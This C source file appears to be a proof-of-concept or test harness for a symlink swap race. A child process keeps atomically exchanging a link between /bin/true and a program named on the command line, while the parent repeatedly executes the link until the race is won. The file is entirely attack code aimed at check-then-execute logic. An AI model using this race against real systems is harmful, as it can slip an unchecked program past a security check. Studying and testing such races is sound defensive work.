/* The link is exchanged on disk between our look at it and the kernel's. */
#include "attack.h"
static volatile int stop;
int main(int c, char **v) {
    int won = 0, status;
    symlink("/bin/true", "out/one"), symlink(v[1], "out/two"), symlink("/bin/true", "out/now");
    pid_t other = fork();
    if (other == 0)
        for (;;) {
            syscall(SYS_renameat2, AT_FDCWD, "out/one", AT_FDCWD, "out/now", 2);
            syscall(SYS_renameat2, AT_FDCWD, "out/two", AT_FDCWD, "out/now", 2);
        }
    for (int i = 0; i < 300 && !won; i++) {
        pid_t child = fork();
        if (child == 0) { execl("out/now", "x", NULL); _exit(1); }
        waitpid(child, &status, 0);
        won = WIFEXITED(status) && WEXITSTATUS(status) == WON;
    }
    kill(other, SIGKILL);
    finish(won);
}
